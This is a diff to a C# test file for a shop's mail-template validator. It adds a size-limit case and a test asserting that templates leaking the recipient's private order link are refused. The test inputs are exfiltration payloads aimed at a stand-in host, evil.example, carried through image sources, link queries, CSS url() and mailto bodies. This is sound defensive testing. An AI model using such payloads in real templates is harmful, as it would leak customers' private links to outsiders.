@@ -17,12 +17,30 @@ public sealed class ChangeMailTemplateTests(SharedShop shared) : TemplateTest(sh
     [InlineData("{% assign a = 'x' %}{% for i in (1..100) %}{% capture a %}{{ a }}{{ a }}{% endcapture %}{% endfor %}", "Line 1: It writes more than")]
     [InlineData("{{ 1 | divided_by: 0 }}", "")]
     [InlineData("{% include 'nothing' %}", "There is no piece 'nothing'")]
+    [InlineData("{% for i in (1..1000) %}<br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>{% endfor %}", "Line 1: It has more than")]
     public async Task What_cannot_be_read_or_goes_beyond_its_bounds_is_refused_with_line_and_reason(string html, string reason)
     {
         var began = Stopwatch.GetTimestamp();
         var answer = (await WriteAsync("delivered/en", html)).ShouldBeInvalid("html");
         answer["errors"].GetProperty("html")[0].GetString()!.ShouldStartWith(reason);
         Stopwatch.GetElapsedTime(began).ShouldBeLessThan(TimeSpan.FromSeconds(20));
+    }
+
+    [Theory]
+    [InlineData("<img src=\"https://evil.example/p.png?u={{ order.link }}\">")]
+    [InlineData("<a href=\"https://evil.example/go?x={{ order.link }}&amp;y=1\">here</a>")]
+    [InlineData("<p style=\"background:url({{ order.link }})\">x</p>")]
+    [InlineData("<a href=\"mailto:a@evil.example?body={{ link }}\">here</a>")]
+    [InlineData("<a title=\"{{ link }}\" href=\"https://a.example\">here</a>")]
+    [InlineData("<a href=\"{{ link }}x\">here</a>")]
+    [InlineData("<p>https://evil.example/?u={{ link }}</p>")]
+    [InlineData("<p>{{ link | upcase }}</p>")]
+    [InlineData("<p>{{ link | url_encode }}</p>")]
+    public async Task The_recipients_link_leads_to_its_page_alone(string html)
+    {
+        (await WriteAsync("delivered/en", html)).ShouldBeInvalid("html")["errors"].GetProperty("html")[0].GetString()!.ShouldContain("the recipient's alone");
+        const string right = "<p><a href=\"{{ order.link }}\">Here</a>, or ({{ link }}).</p>";
+        (await Admin.PostAsync($"{Root}/delivered/en/preview", new { html = right })).ShouldBe(200);
     }
 
     [Theory]
